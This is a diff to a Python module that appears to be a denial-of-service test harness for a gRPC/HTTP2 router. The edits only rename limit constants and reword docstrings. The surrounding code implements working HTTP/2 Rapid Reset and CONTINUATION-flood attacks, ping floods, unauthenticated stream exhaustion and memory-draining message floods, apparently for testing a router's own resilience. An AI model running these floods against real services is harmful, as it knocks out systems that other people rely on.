@@ -24,19 +24,19 @@ CALLS = 8
 FLOOD_S = 8.0
 RESETTING = 4
 """Connections at a time that open streams and reset them."""
-MOST_CONNECTIONS = 1000
-MOST_TAKEN = 1024 * MIB
+MAX_CONNECTIONS = 1000
+MAX_TAKEN = 1024 * MIB
 STREAMS, CONNECTIONS = 60, 50
-MOST_STREAM = 1 << 31
+MAX_STREAM = 1 << 31
 
 
 def many_messages(size: int = 8 * MIB - 64) -> bytes:
-    """A GenerateRequest of millions of messages."""
+    """Return a GenerateRequest of millions of messages."""
     return frames.part(PARAMS, TINY * (size // len(TINY)))
 
 
 async def no_key(target: Target, found: Found) -> None:
-    """Calls that are to be refused."""
+    """Make calls that must be refused."""
     loopback(target.grpc)
     request = many_messages()
     options = (("grpc.max_send_message_length", 16 * MIB),)
@@ -49,7 +49,7 @@ async def no_key(target: Target, found: Found) -> None:
                 found.count("OK")
             except grpc.aio.AioRpcError as error:
                 found.count(error.code().name)
-    await asyncio.sleep(2.0)  # what is kept then is kept
+    await asyncio.sleep(2.0)  # memory in use after this counts as kept
 
 
 def _kept(found: Found, watched: Watched, felt: Felt) -> bool:
@@ -63,10 +63,10 @@ async def _greeted(target: Target) -> Line:
 
 
 async def _flood(target: Target, found: Found, pieces: Iterator[bytes]) -> None:
-    """As fast as it is taken. What the other side says is not read, except that it closes."""
+    """Send as fast as the router takes it. Answers are not read; only a close is noticed."""
     until = time.monotonic() + FLOOD_S
     taken = connections = 0
-    while time.monotonic() < until and connections < MOST_CONNECTIONS and taken < MOST_TAKEN:
+    while time.monotonic() < until and connections < MAX_CONNECTIONS and taken < MAX_TAKEN:
         try:
             line = await _greeted(target)
         except OSError:
@@ -75,7 +75,7 @@ async def _flood(target: Target, found: Found, pieces: Iterator[bytes]) -> None:
             continue
         connections += 1
         sent = 0
-        while time.monotonic() < until and taken + sent < MOST_TAKEN and (piece := next(pieces, b"")):
+        while time.monotonic() < until and taken + sent < MAX_TAKEN and (piece := next(pieces, b"")):
             if not (now := await push(line, piece, until=until)):
                 break
             sent += now
@@ -88,13 +88,13 @@ async def _flood(target: Target, found: Found, pieces: Iterator[bytes]) -> None:
 
 
 def _resets() -> Iterator[bytes]:
-    """CVE-2023-44487."""
+    """Yield the frames of CVE-2023-44487."""
     head = frames.grpc_head(GENERATE)
     stream = 1
     while True:
         opened = range(stream, stream + 400, 2)
         yield b"".join(frames.headers(each, head) + frames.reset(each) for each in opened)
-        stream = (stream + 400) % MOST_STREAM
+        stream = (stream + 400) % MAX_STREAM
 
 
 async def rapid_reset(target: Target, found: Found) -> None:
@@ -102,7 +102,7 @@ async def rapid_reset(target: Target, found: Found) -> None:
 
 
 def _continuations() -> Iterator[bytes]:
-    """CVE-2024-27316."""
+    """Yield the frames of CVE-2024-27316."""
     yield frames.headers(1, frames.grpc_head(GENERATE), whole=False)
     piece = frames.continuation(1, b"".join(frames.field(f"x-{i}", "a" * 1000) for i in range(15)))
     while True:
@@ -119,7 +119,7 @@ def _pings() -> Iterator[bytes]:
 
 
 async def pings(target: Target, found: Found) -> None:
-    """And settings, whose answers nobody reads."""
+    """Send pings and settings, and do not read their answers."""
     await _flood(target, found, _pings())
 
 
@@ -128,7 +128,7 @@ def _harmed(found: Found, watched: Watched, felt: Felt) -> bool:
 
 
 async def _read(line: Line, told: dict[int, bool]) -> None:
-    """Which streams have said something, and whether they have ended; pings are answered."""
+    """Record which streams have had an answer, and whether they have ended; pings are answered."""
     parser = Parser()
     with suppress(OSError):
         while data := await line.reader.read(1 << 16):
@@ -145,7 +145,7 @@ async def _read(line: Line, told: dict[int, bool]) -> None:
 
 
 async def streams(target: Target, found: Found) -> None:
-    """Of the health and the reflection service, which ask for no key."""
+    """Open streams of the health and the reflection service, which need no key."""
     watch, reflect = frames.grpc_head(WATCH), frames.grpc_head(REFLECTION)
     nothing = frames.data(1, frames.grpc_message(b""), end=True)[frames.HEAD_BYTES :]
     told: list[dict[int, bool]] = []
@@ -184,7 +184,7 @@ ATTACKS = (
         aim="refused calls keep 200 MiB",
         run=no_key,
         reached=_kept,
-        most_s=40,
+        max_s=40,
     ),
     Attack(
         name="grpc-streams",
@@ -192,7 +192,7 @@ ATTACKS = (
         aim="1,000 streams of strangers are open",
         run=streams,
         reached=_streams_stay,
-        most_s=30,
+        max_s=30,
     ),
     Attack(
         name="h2-rapid-reset",
